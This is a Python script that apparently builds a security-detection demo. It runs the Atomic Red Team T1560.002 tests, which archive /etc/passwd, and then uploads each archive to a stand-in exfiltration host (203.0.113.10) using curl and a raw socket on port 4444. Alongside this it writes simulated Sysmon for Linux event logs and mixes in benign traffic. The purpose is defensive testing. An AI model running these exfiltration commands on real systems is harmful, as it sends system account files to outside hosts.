#!/usr/bin/env python3
"""Drives the demo: runs the four Atomic Red Team T1560.002 tests for real, uploads each artifact
over a different channel from 10.1.0.5 (the host "alice-pc"), adds benign traffic, and writes the
endpoint events that Sysmon for Linux on alice-pc would have sent for all of it, one syslog line
each, as rsyslog writes them to a file (RSYSLOG_FileFormat: RFC 3339 time, host, tag, message).
Run by make-demo.sh, which sets up the addresses and the capture. Usage: make_demo.py EVENTS_FILE"""
import datetime
import os
import shutil
import subprocess
import sys
import time
import uuid
from xml.sax.saxutils import escape, quoteattr

HOST, HOST_IP = "alice-pc", "10.1.0.5"
EXFIL, BENIGN = "203.0.113.10", "198.51.100.20"
USER = "alice"
PYTHON = os.path.realpath(sys.executable)
CURL = os.path.realpath(shutil.which("curl"))
SELF_PID = os.getpid()
SELF_CMD = "python3 make_demo.py"

# The tests' commands as atomics/T1560.002/T1560.002.yaml gives them, with their default arguments.
ART = [
    ("passwd.gz", "import gzip;input_file=open('/etc/passwd', 'rb');content=input_file.read();input_file.close();"
                  "output_file=gzip.GzipFile('/tmp/passwd.gz','wb',compresslevel=6);output_file.write(content);"
                  "output_file.close();"),
    ("passwd.bz2", "import bz2;input_file=open('/etc/passwd','rb');content=input_file.read();input_file.close();"
                   "bz2content=bz2.compress(content,compresslevel=9);output_file=open('/tmp/passwd.bz2','w+');"
                   "output_file.write(str(bz2content));output_file.close();"),
    ("passwd.zip", "from zipfile import ZipFile; ZipFile('/tmp/passwd.zip', mode='w').write('/etc/passwd')"),
    ("passwd.tar.gz", "from zipfile import ZipFile; ZipFile('/tmp/passwd.tar.gz', mode='w').write('/etc/passwd')"),
]

record_id = 0
events = []


def utc(ns, digits=3):
    t = datetime.datetime.fromtimestamp(ns / 1e9, datetime.timezone.utc)
    return t.strftime("%Y-%m-%d %H:%M:%S.") + ("%06d" % t.microsecond)[:digits]


def guid():
    return "{" + str(uuid.uuid4()) + "}"


def sysmon(ns, eid, task, data):
    """One Sysmon for Linux event as its XML, in the syslog line rsyslog writes for it."""
    global record_id
    record_id += 1
    system = ('<System><Provider Name="Linux-Sysmon" Guid="{ff032593-a8d3-4f13-b0d6-01fc615a0f97}"/>'
              f'<EventID>{eid}</EventID><Version>5</Version><Level>4</Level><Task>{task}</Task><Opcode>0</Opcode>'
              '<Keywords>0x8000000000000000</Keywords>'
              f'<TimeCreated SystemTime="{utc(ns, 6).replace(" ", "T")}000Z"/>'
              f'<EventRecordID>{record_id}</EventRecordID><Correlation/>'
              '<Execution ProcessID="1021" ThreadID="1021"/><Channel>Linux-Sysmon/Operational</Channel>'
              f'<Computer>{HOST}</Computer><Security UserId="0"/></System>')
    body = "".join(f"<Data Name={quoteattr(k)}>{escape(str(v))}</Data>" for k, v in data)
    stamp = datetime.datetime.fromtimestamp(ns / 1e9, datetime.timezone.utc).isoformat(timespec="microseconds")
    events.append(f"{stamp} {HOST} sysmon: <Event>{system}<EventData>{body}</EventData></Event>")


def process_created(ns, pid, image, cmd):
    sysmon(ns, 1, 1, [("RuleName", "-"), ("UtcTime", utc(ns)), ("ProcessGuid", guid()), ("ProcessId", pid),
                      ("Image", image), ("FileVersion", "-"), ("Description", "-"), ("Product", "-"),
                      ("Company", "-"), ("OriginalFileName", "-"), ("CommandLine", cmd),
                      ("CurrentDirectory", "/home/alice"), ("User", USER), ("LogonGuid", guid()),
                      ("LogonId", 1000), ("TerminalSessionId", 3), ("IntegrityLevel", "no level"),
                      ("Hashes", "-"), ("ParentProcessGuid", guid()), ("ParentProcessId", SELF_PID),
                      ("ParentImage", PYTHON), ("ParentCommandLine", SELF_CMD), ("ParentUser", USER)])


def file_created(ns, pid, image, path):
    sysmon(ns, 11, 11, [("RuleName", "-"), ("UtcTime", utc(ns)), ("ProcessGuid", guid()), ("ProcessId", pid),
                        ("Image", image), ("TargetFilename", path), ("CreationUtcTime", utc(ns)), ("User", USER)])


def connected(ns, pid, image, sport, dst, dport):
    sysmon(ns, 3, 3, [("RuleName", "-"), ("UtcTime", utc(ns)), ("ProcessGuid", guid()), ("ProcessId", pid),
                      ("Image", image), ("User", USER), ("Protocol", "tcp"), ("Initiated", "true"),
                      ("SourceIsIpv6", "false"), ("SourceIp", HOST_IP), ("SourceHostname", "-"),
                      ("SourcePort", sport), ("SourcePortName", "-"), ("DestinationIsIpv6", "false"),
                      ("DestinationIp", dst), ("DestinationHostname", "-"), ("DestinationPort", dport),
                      ("DestinationPortName", "-")])


def run(argv, image, cmdline, connect=None):
    """Runs a client process for real and logs what Sysmon would: its creation and its connection."""
    start = time.time_ns()
    p = subprocess.Popen(argv, stdout=subprocess.DEVNULL)
    process_created(start, p.pid, image, cmdline)
    if connect:
        connected(start + 2_000_000, p.pid, image, *connect)
    if p.wait() != 0:
        sys.exit(f"{cmdline} failed")
    time.sleep(0.5)
    return p.pid


def curl(args, sport, dst, dport):
    argv = [CURL, "-s", "-S", "--fail", "--interface", HOST_IP, "--local-port", str(sport)] + args
    cmdline = " ".join(["curl"] + [a if " " not in a else "'" + a + "'" for a in argv[8:]])
    run(argv, CURL, cmdline, (sport, dst, dport))


def main():
    out = sys.argv[1]
    for name, code in ART:
        start = time.time_ns()
        p = subprocess.Popen([PYTHON, "-c", code])
        process_created(start, p.pid, PYTHON, f'python3 -c "{code}"')
        p.wait()
        file_created(time.time_ns(), p.pid, PYTHON, "/tmp/" + name)
        time.sleep(1)
    # Each artifact leaves over a different channel.
    curl(["-H", "Content-Type: application/octet-stream", "--data-binary", "@/tmp/passwd.gz",
          f"http://{EXFIL}:8080/upload"], 41001, EXFIL, 8080)
    sender = ("import socket;s=socket.socket();s.bind(('10.1.0.5',41002));s.connect(('203.0.113.10',4444));"
              "s.sendall(open('/tmp/passwd.bz2','rb').read());s.close()")
    run([PYTHON, "-c", sender], PYTHON, f'python3 -c "{sender}"', (41002, EXFIL, 4444))
    curl(["-F", "note=weekly", "-F", "file=@/tmp/passwd.zip", f"http://{EXFIL}:8080/submit"], 41003, EXFIL, 8080)
    curl(["-T", "/tmp/passwd.tar.gz", "-H", "Transfer-Encoding: chunked", f"http://{EXFIL}:8080/drop/passwd.tar.gz"],
         41004, EXFIL, 8080)
    # Benign: a gzip-encoded report download, a form post, a TLS session.
    curl(["--compressed", "-o", "/dev/null", f"http://{BENIGN}:8080/reports/q3.json"], 41005, BENIGN, 8080)
    curl(["-d", "user=alice&comment=lunch+at+noon", f"http://{BENIGN}:8080/form"], 41006, BENIGN, 8080)
    curl(["-k", "-o", "/dev/null", f"https://{BENIGN}:8443/"], 41007, BENIGN, 8443)
    for name, _ in ART:
        os.remove("/tmp/" + name)
    with open(out, "w") as f:
        f.write("\n".join(events) + "\n")


if __name__ == "__main__":
    main()
